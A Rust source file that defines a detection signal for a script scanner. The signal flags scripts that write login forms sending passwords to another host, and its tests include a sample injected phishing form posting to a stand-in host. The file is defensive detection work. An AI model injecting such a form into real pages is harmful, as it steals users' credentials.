//! `login-form-abroad`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "login-form-abroad",
    description: "The script writes a login form that sends the password to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::LoginMarkup])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "document.write('<h3>Please login</h3><form action=\"https://c.example/\"><input name=user><input type=\"password\" name=password></form>')",
        ],
        without: &[
            "document.write('<form action=\"/login\"><input type=password></form>')",
            "d.innerHTML='<form action=\"https://c.example/subscribe\"><input type=email></form>'",
        ],
    },
};
